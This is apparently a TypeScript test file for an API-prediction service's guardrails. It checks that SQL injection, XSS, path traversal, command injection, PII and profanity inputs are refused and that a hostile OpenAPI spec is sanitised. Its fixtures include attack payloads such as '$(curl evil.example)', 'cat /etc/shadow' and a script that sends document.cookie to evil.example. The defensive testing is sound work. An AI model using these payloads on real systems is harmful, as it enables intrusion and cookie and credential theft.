/**
 * Guardrails through POST /predict on a real server: every input rule refuses with
 * 400 SAFETY_VALIDATION_FAILED naming the rule and never echoing what it matched, history
 * entries are checked too, the 100 RestBench TMDB queries all pass, the master switch
 * turns the checks off, and the output guard cleans descriptions from a hostile spec and
 * flags admin endpoints.
 */
import fs from 'node:fs';
import t from 'tap';
import { startTestServer } from './helpers/server';

const TMDB_DIR = '../shared/data/restbench-tmdb';

/** [rule, prompt, the part of it that must never come back]. */
const ATTACKS: [string, string, string][] = [
  ['sql_injection', "find user admin' OR 1=1 --", 'OR 1=1'],
  ['sql_injection', "list orders'; DROP TABLE orders--", 'DROP TABLE'],
  ['xss', 'show users <script>alert("pwned")</script>', 'pwned'],
  ['xss', 'list <img src=x onerror=alert(7)> projects', 'onerror'],
  ['path_traversal', 'download ../../../etc/passwd please', 'etc/passwd'],
  ['command_injection', 'ping the host; cat /etc/shadow', 'cat /etc/shadow'],
  ['command_injection', 'export the report $(curl evil.example)', 'evil.example'],
  ['pii_email', 'find the account of jane.roe@example.com', 'jane.roe@example.com'],
  ['pii_phone', 'call the customer at +1 (415) 555-0173 about the order', '555-0173'],
  ['pii_ssn', 'update the employee with ssn 219-09-9999', '219-09-9999'],
  ['pii_credit_card', 'charge card 4111 1111 1111 1111 for the invoice', '4111 1111 1111 1111'],
  ['profanity', 'list the fucking invoices already', 'fucking'],
];

/** [rule, history entry]: history gets the attack rules. */
const HISTORY_ATTACKS: [string, Record<string, unknown>][] = [
  ['path_traversal', { api_call: 'GET /files/../../../../etc/passwd' }],
  ['xss', { api_call: '/users/1', params: { name: '<script>steal()</script>' } }],
  ['sql_injection', { api_call: '/users', params: { filter: "1' UNION SELECT password FROM users--" } }],
  ['command_injection', { api_call: '/projects/7', params: { deep: { list: ['ok', '$(whoami)'] } } }],
];

const HOSTILE_SPEC = {
  openapi: '3.0.3',
  info: { title: 'Widgets', version: '1.0.0' },
  paths: {
    '/widgets': {
      get: {
        summary: '<b>List</b> widgets<script>document.location="https://evil.example/?c="+document.cookie</script>',
        tags: ['widgets'],
        responses: { '200': { description: 'ok' } },
      },
      post: {
        summary: 'Create a widget &lt;img src=x onerror=alert(1)&gt; <a href="javascript:alert(2)">now</a>',
        responses: { '201': { description: 'created' } },
      },
    },
    '/widgets/{widgetId}': {
      get: {
        summary: 'Get a widget\u202e\u0007 <iframe src="https://evil.example"></iframe>',
        parameters: [{ name: 'widgetId', in: 'path', required: true, schema: { type: 'string' } }],
        responses: { '200': { description: 'ok' } },
      },
    },
    '/admin/users': {
      get: { summary: 'List all users (administration console)', responses: { '200': { description: 'ok' } } },
    },
    '/admin/users/{userId}': {
      delete: {
        summary: 'Delete any user',
        parameters: [{ name: 'userId', in: 'path', required: true, schema: { type: 'string' } }],
        responses: { '204': { description: 'gone' } },
      },
    },
  },
};

t.test('input guardrails through /predict', async (t) => {
  const s = await startTestServer(t, { taskTimeoutMs: 20_000 });

  await t.test('each rule refuses with SAFETY_VALIDATION_FAILED naming the rule', async (t) => {
    const seen = new Set<string>();
    for (const [rule, prompt, secret] of ATTACKS) {
      const res = await s.raw('/predict', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ prompt }) });
      const text = await res.text();
      const body = JSON.parse(text);
      t.equal(res.status, 400, `${rule}: 400`);
      t.equal(body.error?.code, 'SAFETY_VALIDATION_FAILED', `${rule}: code`);
      t.equal(body.error?.details?.rule, rule, `${rule}: details.rule`);
      t.notOk(text.includes(secret), `${rule}: the matched text is not echoed`);
      t.notOk(text.includes(prompt), `${rule}: nor the prompt`);
      seen.add(rule);
    }
    t.equal(seen.size, 9, 'all nine rules exercised');
  });

  await t.test('history entries are checked with the attack rules', async (t) => {
    for (const [rule, entry] of HISTORY_ATTACKS) {
      const r = await s.post('/predict', { prompt: 'update this user', history: [{ api_call: '/users/1' }, entry] });
      t.equal(r.status, 400, `${rule} in history`);
      t.equal(r.json.error.code, 'SAFETY_VALIDATION_FAILED');
      t.equal(r.json.error.details.rule, rule);
      t.notMatch(JSON.stringify(r.json), /whoami|steal|UNION|etc\/passwd/, 'nothing echoed');
    }
    // Personal data the user already sent to the API is normal in history parameters.
    const ok = await s.post('/predict', { prompt: 'update this user', history: [{ api_call: '/users/1', params: { email: 'jane.roe@example.com' } }] });
    t.equal(ok.status, 200, 'PII in history parameters is allowed');
  });

  await t.test('the 100 RestBench TMDB queries all pass', async (t) => {
    const up = await s.raw('/specs?spec_id=tmdb', { method: 'POST', headers: { 'content-type': 'application/json' }, body: fs.readFileSync(`${TMDB_DIR}/tmdb_oas.json`) });
    t.equal(up.status, 201, 'TMDB spec uploaded');
    const queries = JSON.parse(fs.readFileSync(`${TMDB_DIR}/queries.json`, 'utf8')) as { query: string }[];
    t.equal(queries.length, 100);
    const refused: string[] = [];
    for (const { query } of queries) {
      const r = await s.post('/predict', { prompt: query, spec_id: 'tmdb' });
      if (r.status !== 200) refused.push(`${r.status} ${r.json?.error?.details?.rule ?? r.json?.error?.code}: ${query}`);
    }
    t.same(refused, [], 'no false positive on real queries');
  });

  await t.test('output guardrails: hostile descriptions are cleaned, admin endpoints flagged', async (t) => {
    const up = await s.post('/specs?spec_id=widgets', HOSTILE_SPEC);
    t.equal(up.status, 201);
    const r = await s.post('/predict', { prompt: 'list widgets and users', spec_id: 'widgets', max_predictions: 5 });
    t.equal(r.status, 200);
    t.equal(r.json.predictions.length, 5, 'every endpoint predicted');
    for (const p of r.json.predictions) {
      t.notMatch(p.description, /[<>]|script|javascript:|onerror|iframe|document\.cookie|[\u0000-\u001f\u202a-\u202e]/i, `${p.api_call}: clean description "${p.description}"`);
      t.equal(p.safety_validated, true);
    }
    const byCall = new Map<string, any>(r.json.predictions.map((p: any) => [p.api_call, p]));
    t.match(byCall.get('GET /widgets')?.description, /List\s+widgets/, 'the text survives');
    t.equal(byCall.get('GET /admin/users')?.sensitive, 'admin', 'admin endpoint flagged');
    t.equal(byCall.get('DELETE /admin/users/{userId}')?.sensitive, 'admin');
    t.equal(byCall.get('GET /widgets')?.sensitive, undefined, 'ordinary endpoints are not flagged');
    t.same(r.json.metadata.safety_validation, { input_validated: true, output_filtered: true, blocked_predictions: 0, security_checks_passed: true });

    // Parameter values filled from history are cleaned as well.
    const h = await s.post('/predict', { prompt: 'get this widget', spec_id: 'widgets', history: [{ api_call: '/widgets/w-1\u202e\u0007' }], max_predictions: 5 });
    t.equal(h.status, 200);
    const get = h.json.predictions.find((p: any) => p.api_call === 'GET /widgets/{widgetId}');
    t.equal(get?.parameters.widgetId, 'w-1', 'filled parameter cleaned of control and bidi characters');
  });

  await t.test('refusals are counted per rule in /metrics', async (t) => {
    const m = await s.get('/metrics');
    for (const rule of ['sql_injection', 'xss', 'path_traversal', 'command_injection', 'pii_email', 'pii_phone', 'pii_ssn', 'pii_credit_card', 'profanity']) {
      t.match(m.text, new RegExp(`opensesame_guardrail_blocks_total\\{rule="${rule}"\\} [1-9]`), rule);
    }
  });
});

t.test('OPENSESAME_ENABLE_GUARDRAILS=false lets the attack through', async (t) => {
  const s = await startTestServer(t, { taskTimeoutMs: 20_000 }, { OPENSESAME_ENABLE_GUARDRAILS: 'false' });
  t.equal(s.server.ctx.config.guardrails, false);
  const r = await s.post('/predict', { prompt: 'show users <script>alert("pwned")</script>', history: [{ api_call: 'GET /files/../../etc/passwd' }] });
  t.equal(r.status, 200, 'the attack passes');
  t.equal(r.json.metadata.safety_validation.input_validated, false);
  t.equal(r.json.metadata.safety_validation.output_filtered, false);
  for (const p of r.json.predictions) t.equal(p.safety_validated, false, 'predictions say they were not validated');
  const pii = await s.post('/predict', { prompt: 'find the account of jane.roe@example.com' });
  t.equal(pii.status, 200, 'PII passes too');
});
